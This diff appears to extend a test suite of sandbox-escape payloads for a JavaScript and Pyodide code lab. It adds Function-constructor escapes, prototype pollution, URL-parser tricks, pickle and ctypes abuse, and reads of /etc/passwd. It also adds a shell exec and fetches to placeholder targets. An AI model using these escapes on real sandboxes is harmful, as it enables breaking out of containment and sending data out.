@@ -121,6 +121,86 @@ export const typescriptWays: WaysOut = {
     "try { null.x } catch (e) { e.constructor.constructor('return fetch')()(ZIEL); }",
   ),
   ShadowRealm: each("new ShadowRealm().evaluate('globalThis.fetch');"),
+  'code through the constructors of what the lab gives': each(
+    ...[
+      'fetch',
+      'console.log',
+      'process.exit',
+      'setTimeout',
+      'queueMicrotask',
+      'new XMLHttpRequest().open',
+      'DOMException',
+      'structuredClone',
+      'AbortSignal.timeout',
+      'new MessageChannel().port1.postMessage',
+    ].map((made) => `(${made}).constructor('console.log("offen"); return fetch')()(ZIEL);`),
+  ),
+  'code through every kind of function': each(
+    ...[
+      'async () => {}',
+      'function* () {}',
+      'async function* () {}',
+      'class {}',
+      '(class { static async *x() {} }).x',
+    ].map((kind) => `const F = Object.getPrototypeOf(${kind}).constructor; F('console.log("offen")')().next?.();`),
+    `Reflect.construct(Function, ['console.log("offen")'], class {})();`,
+    `Reflect.apply(Function.prototype.constructor, null, ['console.log("offen")'])();`,
+    `Iterator.from([1]).constructor.constructor('console.log("offen")')();`,
+    `new Intl.Segmenter('de').constructor.constructor('console.log("offen")')();`,
+  ),
+  'what the lab keeps in lists': each(
+    `const got = []; const push = Array.prototype.push;
+     Array.prototype.push = function (...a) { for (const x of a) got[got.length] = x; return Reflect.apply(push, this, a); };
+     await fetch('https://api.openai.com/v1/models').catch(() => {});
+     Array.prototype.push = push;
+     for (const x of got) for (let o = x; o !== null && typeof o === 'object'; o = Object.getPrototypeOf(o))
+       for (const k of Reflect.ownKeys(o)) if (/fetch|post|send|open/i.test(String(k))) try { x[k](ZIEL); x[k](HEIM); } catch {}`,
+  ),
+  'what the lab keeps in maps': each(
+    `const got = []; const get = Map.prototype.get;
+     Map.prototype.get = function (k) { const v = Reflect.apply(get, this, [k]); got[got.length] = v; return v; };
+     await fetch('https://api.openai.com/v1/models').catch(() => {});
+     Map.prototype.get = get;
+     for (const x of got) for (const k of Reflect.ownKeys(Object(x))) if (typeof x[k] === 'function') try { x[k](ZIEL); } catch {}`,
+  ),
+  'the promises of the lab': each(
+    `const then = Promise.prototype.then; const seen = [];
+     Promise.prototype.then = function (...a) { seen[seen.length] = a; return Reflect.apply(then, this, a); };
+     await fetch('https://api.openai.com/v1/models').catch(() => {});
+     Promise.prototype.then = then;
+     for (const [f] of seen) try { f(ZIEL); f.constructor('console.log("offen")')(); } catch {}`,
+  ),
+  'settings left on the prototypes': each(
+    `Object.prototype.dispatcher = { dispatch() { console.log('offen'); } }; await fetch(ZIEL).catch(() => {}); delete Object.prototype.dispatcher;`,
+    `Object.prototype.mode = 'no-cors'; await fetch(HEIM).catch(() => {}); delete Object.prototype.mode;`,
+    `Object.prototype.url = ZIEL; await fetch('https://api.openai.com/v1/models').catch(() => {}); delete Object.prototype.url;`,
+  ),
+  'stack frames of the lab': each(
+    `Error.prepareStackTrace = (_, sites) => sites.map((s) => [s.getThis?.(), s.getFunction?.()]).flat().filter((x) => x && x !== globalThis);
+     await new Promise((r) => setTimeout(() => { for (const x of new Error().stack) console.log('offen', typeof x); r(); }, 1));`,
+  ),
+  'a parser of addresses': each(
+    "await fetch(ZIEL.replace('http://', 'http:\\\\\\\\'));",
+    "await fetch(ZIEL.replace('http://', 'http://api.openai.com@'));",
+    "await fetch(ZIEL.replace('127.0.0.1', '127.0.0.1.'));",
+    "await fetch(ZIEL.replace('127.0.0.1', '0x7f.1'));",
+    "await fetch(ZIEL.replace('127.0.0.1', '[::ffff:7f00:1]'));",
+    "await fetch('https://api.openai.com.' + new URL(ZIEL).host);",
+  ),
+  'redirects and referrers': each(
+    "await fetch('https://api.openai.com/v1/../../' + ZIEL);",
+    "await fetch('https://api.openai.com/v1/models', { redirect: 'follow', referrer: ZIEL });",
+    "await fetch('https://api.openai.com//' + new URL(ZIEL).host + '/verraten');",
+  ),
+  'import with attributes': each(
+    "await import(ZIEL, { with: { type: 'text' } });",
+    "await import(ZIEL, { with: { type: 'css' } });",
+    'await import.meta.resolve?.(ZIEL);',
+  ),
+  'events made by the program': each(
+    "dispatchEvent(new MessageEvent('message', { data: { kind: 'start' } }));",
+    "new EventTarget().dispatchEvent(new Event('fetch')); globalThis.onfetch?.(ZIEL);",
+  ),
 };
 
 const head = 'import os\nZIEL, HEIM = os.environ["ZIEL"], os.environ["HEIM"]\n';
@@ -134,7 +214,58 @@ const tried = (...lines: readonly string[]): string =>
     .join('\n') +
   '\n';
 
+/** A function of the lab, as Python sees it. */
+const labFunction = 'import time\nlab = time.sleep.__globals__["lab"]\nf = getattr(lab, type(lab).__slots__[0])';
+
 export const pythonWays: WaysOut = {
+  'builtin modules by their own importer': tried(
+    'import importlib.machinery as m\nk = m.BuiltinImporter.load_module("_pyodide_core")\nprint("offen", k)',
+    'import _imp, importlib.machinery as m\nk = _imp.create_builtin(m.ModuleSpec("_pyodide_core", m.BuiltinImporter))\nprint("offen", k)',
+    'import _frozen_importlib as b\nk = b._load(b.BuiltinImporter.find_spec("_pyodide_core"))\nprint("offen", k)',
+  ),
+  'the finders, put back': tried(
+    'import sys, importlib.machinery as m\nold = sys.meta_path[:]\nsys.meta_path[:] = [m.BuiltinImporter, m.PathFinder]\ntry:\n    import _pyodide_core\n    print("offen")\nfinally:\n    sys.meta_path[:] = old',
+    'import runpy\nrunpy.run_module("js")',
+    'import pkgutil\npkgutil.resolve_name("js:fetch")(ZIEL)',
+    'import pickle\npickle.loads(b"cjs\\nfetch\\n(V" + ZIEL.encode() + b"\\ntR.")',
+  ),
+  'a function’s prototype': tried(
+    ...[
+      'f.constructor',
+      'f.constructor.constructor',
+      'f.constructor.prototype.constructor',
+      'f.bind.constructor',
+      'f.call.constructor',
+    ].map((way) => `${labFunction}\n${way}("console.log('offen')")()\nprint("offen")`),
+  ),
+  'Object, through a function': tried(
+    `${labFunction}\nO = f.valueOf.constructor.prototype.constructor\nO("console.log('offen')")()\nprint("offen")`,
+    `${labFunction}\nfor o in (f, f.constructor, f.call):\n    for k in dir(o):\n        v = getattr(o, k, None)\n        for name in ("fetch", "Worker", "importScripts", "process"):\n            if hasattr(v, name): print("offen", k, name)`,
+    `${labFunction}\nprint("offen" if hasattr(f.call(None), "fetch") else "nichts")`,
+  ),
+  'C functions of Pyodide': tried(
+    'import ctypes\nc = ctypes.CDLL(None)\nctypes.pythonapi.PyInit__pyodide_core.restype = ctypes.py_object\nk = ctypes.pythonapi.PyInit__pyodide_core()\nprint("offen", k)',
+  ),
+  'tracing the lab': tried(
+    'import sys, time\ngot = []\nsys.settrace(lambda f, e, a: got.append(f.f_locals))\ntime.sleep(0.01)\nsys.settrace(None)\nfor names in got:\n    for v in list(names.values()):\n        if hasattr(v, "constructor"): v.constructor.constructor("console.log(\'offen\')")()',
+  ),
+  'further libraries': tried(
+    'import xmlrpc.client\nxmlrpc.client.ServerProxy(ZIEL).x()',
+    'import logging, logging.handlers\nlogging.handlers.HTTPHandler(ZIEL.split("/")[2], "/verraten").emit(logging.makeLogRecord({}))',
+    'import logging.handlers\nlogging.handlers.SysLogHandler(("127.0.0.1", 514)).emit(__import__("logging").makeLogRecord({}))',
+    'import urllib.request\nurllib.request.urlretrieve(ZIEL, "x")',
+    'import telnetlib',
+    'import poplib\npoplib.POP3("127.0.0.1", 110)',
+    'import imaplib\nimaplib.IMAP4("127.0.0.1")',
+    'import ensurepip\nensurepip.bootstrap()',
+    'import venv\nvenv.create("x", with_pip=True)',
+  ),
+  'files and signals': tried(
+    'print(open("/etc/passwd").read())',
+    'import urllib.request\nprint(urllib.request.urlopen("file:///etc/passwd").read())',
+    'import signal, os\nos.kill(os.getpid(), signal.SIGKILL)',
+    'import os\nos.execv("/bin/sh", ["sh"])',
+  ),
   'import js': tried('import js\njs.fetch(ZIEL)'),
   'import pyodide_js': tried('import pyodide_js\npyodide_js.runPython("1")\npyodide_js.globals'),
   run_js: tried('from pyodide.code import run_js\nrun_js(f"fetch(\'{ZIEL}\')")'),
@@ -234,3 +365,24 @@ export const pythonWays: WaysOut = {
     'import sys\nframe = sys._getframe()\nwhile frame:\n    for key, value in [*frame.f_locals.items(), *frame.f_globals.items()]:\n        if type(value).__name__ == "JsProxy":\n            print(key)\n            value.constructor.constructor("u", "return fetch(u)")(ZIEL)\n    frame = frame.f_back',
   ),
 };
+
+/** Ways that may end the interpreter itself; each of the others is followed by the next within one program. */
+const deadly = [
+  'ctypes run_script',
+  'ctypes sockets',
+  'ctypes imports',
+  'WebAssembly imports',
+  'C functions of Pyodide',
+  'files and signals',
+];
+
+/** Python's ways, several to a program, since each start of Python takes its time. */
+export function together(ways: WaysOut, size = 9): WaysOut {
+  const names = Object.keys(ways).filter((name) => !deadly.includes(name));
+  const groups: Record<string, string> = {};
+  for (let i = 0; i < names.length; i += size) {
+    const group = names.slice(i, i + size);
+    groups[group.join(', ')] = `${group.map((name) => ways[name]).join('\n')}\nprint("bis zum Ende")\n`;
+  }
+  return { ...groups, ...Object.fromEntries(deadly.map((name) => [name, ways[name] ?? ''])) };
+}
